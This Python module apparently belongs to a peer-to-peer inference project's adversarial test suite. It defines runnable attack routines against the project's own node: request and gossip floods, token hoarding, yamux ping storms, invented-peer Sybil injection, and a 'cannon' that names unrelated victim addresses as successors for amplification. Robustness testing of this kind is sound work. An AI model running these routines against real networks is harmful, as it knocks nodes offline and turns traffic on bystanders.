"""What strangers do to a node with nothing but key pairs and well-formed messages, a function for each kind.

Each goes on until the node hangs up on whoever does it.
"""

from __future__ import annotations

import os
import random
from collections.abc import Awaitable, Callable, Mapping
from dataclasses import dataclass
from typing import Any, Final, TypeAlias

import msgspec
import trio
from libp2p.peer.id import ID
from libp2p.pubsub.pb import rpc_pb2

from p2pinfer.node.evidence.store import EVIDENCE_PROTOCOL
from p2pinfer.node.host.host import Host
from p2pinfer.node.host.length_prefix import receive_value, send_value
from p2pinfer.node.protocol.frames import FrameStream
from p2pinfer.node.protocol.messages import SESSION_PROTOCOL, Expect, Open, Opened, Probe, Step, Successor
from p2pinfer.node.reach.dialback import DIALBACK_PROTOCOL
from p2pinfer.node.swarm.gossip import Gossip, open_gossip
from p2pinfer.node.swarm.gossipsub import topic_of
from p2pinfer.node.swarm.live_table import LiveTable
from p2pinfer.node.swarm.snapshot import MAX_RECORDS, SNAPSHOT_PROTOCOL, encode_response
from p2pinfer.node.transport.identity import Identity
from p2pinfer.node.transport.yamux_frames import HEADER, PING, SYN

from .inventions import Inventor

TOKENS: Final = 1 << 14  # that each wants to reserve; it takes what fits
HIDDEN_BYTES: Final = 4 * 320  # of one token of the bundled model
AT_ONCE: Final = 8


@dataclass(frozen=True)
class Target:
    """The node that is attacked, and addresses of people who have nothing to do with it."""

    peer_id: str
    address: str
    revision: str
    blocks: int
    victims: tuple[str, ...]


class Attacker:
    """One of the crowd, connected to the node."""

    def __init__(self, target: Target, host: Host, identity: Identity, inventor: Inventor) -> None:
        self.target = target
        self.host = host
        self.identity = identity
        self.inventor = inventor

    @property
    def is_connected(self) -> bool:
        return self.host.connection_kind(self.target.peer_id) is not None

    async def session(self, tokens: int, successor: Successor | None = None) -> FrameStream | None:
        """A session for as much as there is, halved until it is granted."""
        while tokens >= 64:
            stream = await self.host.open_stream(self.target.peer_id, SESSION_PROTOCOL)
            frames = FrameStream(stream, max_payload_bytes=1 << 20, peer_id=self.target.peer_id)
            stop = self.target.blocks if successor is None else self.target.blocks // 2
            opening = Open(os.urandom(16), self.target.revision, 0, stop, tokens, "float32", None, successor)
            await frames.send(opening)
            if isinstance((await frames.receive())[0], Opened):
                return frames
            tokens //= 2
        return None

    async def ask(self, protocol: str, question: Any, *, reads: bool) -> None:
        stream = await self.host.open_stream(self.target.peer_id, protocol)
        await send_value(stream, msgspec.msgpack.encode(question))
        if reads:
            await receive_value(stream, 1 << 26)
            await stream.aclose()

    async def gossip(self, gossip: Gossip, rpc: rpc_pb2.RPC) -> None:
        """Give the node this frame; first make sure that there is a stream for it."""
        gossip.pubsub.gossipsub.send_rpc(ID.from_base58(self.target.peer_id), rpc)
        await trio.lowlevel.checkpoint()


Attack: TypeAlias = Callable[[Attacker], Awaitable[None]]


async def ask_and_not_read(attacker: Attacker) -> None:
    while attacker.is_connected:
        for _ in range(AT_ONCE):
            await attacker.ask(SNAPSHOT_PROTOCOL, [None], reads=False)
        await trio.sleep(1)


async def ask_for_everything(attacker: Attacker) -> None:
    """Tables, tensors, and to be dialled back, as often as it is answered."""
    questions = (
        (SNAPSHOT_PROTOCOL, [None]),
        (EVIDENCE_PROTOCOL, [[os.urandom(32)]]),
        (DIALBACK_PROTOCOL, [[9]]),
    )
    while attacker.is_connected:
        async with trio.open_nursery() as nursery:
            for number in range(AT_ONCE):
                protocol, question = questions[number % len(questions)]
                nursery.start_soon(lambda p, q: attacker.ask(p, q, reads=True), protocol, question)


async def reserve_and_not_use(attacker: Attacker) -> None:
    while attacker.is_connected:
        frames = await attacker.session(TOKENS)
        while frames is not None:
            await frames.send(Expect(attacker.identity.peer_id))
            await trio.sleep(3)
        await trio.sleep(1)


async def fill_and_keep(attacker: Attacker) -> None:
    """Some steps at first, so that what is reserved counts as used, and then one in a long time."""
    while attacker.is_connected:
        frames = await attacker.session(TOKENS)
        for number in range(1 << 20 if frames else 0):
            assert frames is not None
            await frames.send(Step(number, 0, 64 * number, 64, 0), bytes(64 * HIDDEN_BYTES))
            await frames.receive()
            await trio.sleep(0 if number < 4 else 10)
        await trio.sleep(1)


async def probe(attacker: Attacker) -> None:
    frames = await attacker.session(TOKENS)
    while frames is not None:
        for number in range(100):
            await frames.send(Probe(number))
        await trio.sleep(0.01)


async def name_victims_as_successors(attacker: Attacker) -> None:
    """Openings whose successor is at addresses of others, by their client's word and by its own."""
    victims = attacker.target.victims
    async with open_gossip(attacker.host, attacker.identity, LiveTable()) as gossip:
        await gossip.join(attacker.target.revision)
        await gossip.pubsub.ensure_peer_stream(ID.from_base58(attacker.target.peer_id))
        while attacker.is_connected:
            invented = attacker.inventor.invent()
            await attacker.gossip(gossip, rpc_pb2.RPC(publish=[invented.message]))
            named = tuple(random.sample(victims, min(16, len(victims))))
            async with trio.open_nursery() as nursery:
                for _ in range(AT_ONCE):
                    nursery.start_soon(attacker.session, 64, Successor(invented.peer_id, named))


async def graft_and_prune(attacker: Attacker) -> None:
    topic, rpc = topic_of(attacker.target.revision), rpc_pb2.RPC()
    for _ in range(250):
        rpc.control.graft.add().topicID = topic
        rpc.control.prune.add(topicID=topic, backoff=60)
    await _flood(attacker, lambda: rpc)


async def subscribe(attacker: Attacker) -> None:
    """To topics that there are, and that there are not, and to leave them again."""

    def frame() -> rpc_pb2.RPC:
        topics = [topic_of(attacker.target.revision), *(topic_of(os.urandom(16).hex()) for _ in range(50))]
        words = [
            rpc_pb2.RPC.SubOpts(subscribe=yes, topicid=topic) for topic in topics for yes in (True, False)
        ]
        return rpc_pb2.RPC(subscriptions=words)

    await _flood(attacker, frame)


async def ask_again(attacker: Attacker) -> None:
    """IHAVE of messages that there are not, and IWANT of any."""

    def frame() -> rpc_pb2.RPC:
        rpc = rpc_pb2.RPC()
        ids: Any = [os.urandom(40).hex().encode() for _ in range(500)]
        rpc.control.ihave.add(topicID=topic_of(attacker.target.revision), messageIDs=ids)
        rpc.control.iwant.add(messageIDs=ids)
        return rpc

    await _flood(attacker, frame)


async def invent_by_gossip(attacker: Attacker) -> None:
    await _flood(attacker, lambda: rpc_pb2.RPC(publish=[attacker.inventor.invent().message]), 0.05)


async def _flood(attacker: Attacker, frame: Callable[[], rpc_pb2.RPC], gap_s: float = 0.01) -> None:
    async with open_gossip(attacker.host, attacker.identity, LiveTable()) as gossip:
        await gossip.join(attacker.target.revision)
        await gossip.pubsub.ensure_peer_stream(ID.from_base58(attacker.target.peer_id))
        while attacker.is_connected:
            await attacker.gossip(gossip, frame())
            await trio.sleep(gap_s)


async def invent_by_snapshot(attacker: Attacker) -> None:
    """Tables of nothing but invented peers, for whoever asks, after announcing that it is one to ask."""
    records = [attacker.inventor.invent().record for _ in range(MAX_RECORDS)]

    async def answer(stream: Any) -> None:
        await receive_value(stream, 1 << 16)
        await send_value(stream, encode_response([(record, 0.0) for record in records]))

    attacker.host.serve(SNAPSHOT_PROTOCOL, answer)
    own = attacker.inventor.announce(attacker.identity)
    await _flood(attacker, lambda: rpc_pb2.RPC(publish=[own.message]), 5.0)


async def ping(attacker: Attacker) -> None:
    frames = b"".join(HEADER.pack(0, PING, SYN, 0, number) for number in range(1000))
    network: Any = attacker.host.libp2p.get_network()
    connection = network.connections[ID.from_base58(attacker.target.peer_id)][0]
    while attacker.is_connected:
        await connection.muxed_conn.send(frames)
        await trio.sleep(0.01)


KINDS: Final[Mapping[str, tuple[Attack, ...]]] = {
    "inventions": (invent_by_gossip, invent_by_snapshot),
    "cannon": (name_victims_as_successors,),
    "snapshots": (ask_and_not_read, ask_for_everything),
    "hoards": (reserve_and_not_use, fill_and_keep),
    "control": (graft_and_prune, subscribe, ask_again, ping, probe),
}
